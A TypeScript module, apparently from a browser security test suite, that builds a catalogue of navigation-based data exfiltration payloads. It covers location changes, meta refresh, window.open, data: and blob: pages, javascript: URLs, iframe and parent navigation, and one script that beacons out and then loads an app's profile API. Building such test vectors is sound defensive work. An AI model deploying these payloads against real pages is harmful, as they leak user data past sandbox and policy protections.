// A document that navigates its own frame elsewhere, with data in the URL.
import { family, html, script } from "./payload.ts";

const move = (statement: (hit: string) => string) => script(({ hit }) => statement(hit()));

export const navigation = family("navigation", {
  assign: move((hit) => `location = "${hit}";`),
  href: move((hit) => `location.href = "${hit}";`),
  replace: move((hit) => `location.replace("${hit}");`),
  "assign-method": move((hit) => `location.assign("${hit}");`),
  later: move((hit) => `setTimeout(() => { location.href = "${hit}"; }, 50);`),
  "navigation-interface": move((hit) => `await navigation.navigate("${hit}").committed;`),
  "open-self": move((hit) => `window.open("${hit}", "_self");`),
  link: move((hit) => `const a = document.createElement("a"); a.href = "${hit}"; document.body.append(a); a.click();`),
  refresh: move(
    (hit) =>
      `const m = document.createElement("meta"); m.httpEquiv = "refresh"; m.content = "0;url=${hit}"; document.head.append(m);`,
  ),
  "data-page": script(
    ({ strike }) =>
      `location = "data:text/html," + encodeURIComponent("<script>" + ${JSON.stringify(strike)} + "</scr" + "ipt>");`,
  ),
  "blob-page": script(
    ({ strike }) =>
      `location = URL.createObjectURL(new Blob(["<script>" + ${JSON.stringify(strike)} + "</scr" + "ipt>"], { type: "text/html" }));`,
  ),
  "script-address": script(({ strike }) => `location = "javascript:" + ${JSON.stringify(strike)};`),
  "of-inner-frame": move(
    (hit) =>
      `const f = document.createElement("iframe"); document.body.append(f); f.contentWindow.location = "${hit}";`,
  ),
  "of-inner-frame-parent": script(
    ({ hit }) =>
      `const f = document.createElement("iframe"); f.srcdoc = "<script>parent.location = '${hit()}'</scr" + "ipt>"; document.body.append(f);`,
  ),
  "to-the-app": script(({ app, hit }) => `new Image().src = "${hit("before")}"; location = "${app}/api/profile/me";`),
  "document-open": html(
    ({ strike }) =>
      `<script>document.open(); document.write("<script>${strike.replaceAll("'", "\\x27")}</scr" + "ipt>"); document.close();</script>`,
  ),
  "download-by-script": move(
    (hit) =>
      `const a = document.createElement("a"); a.href = "${hit}"; a.download = "x"; document.body.append(a); a.click();`,
  ),
});
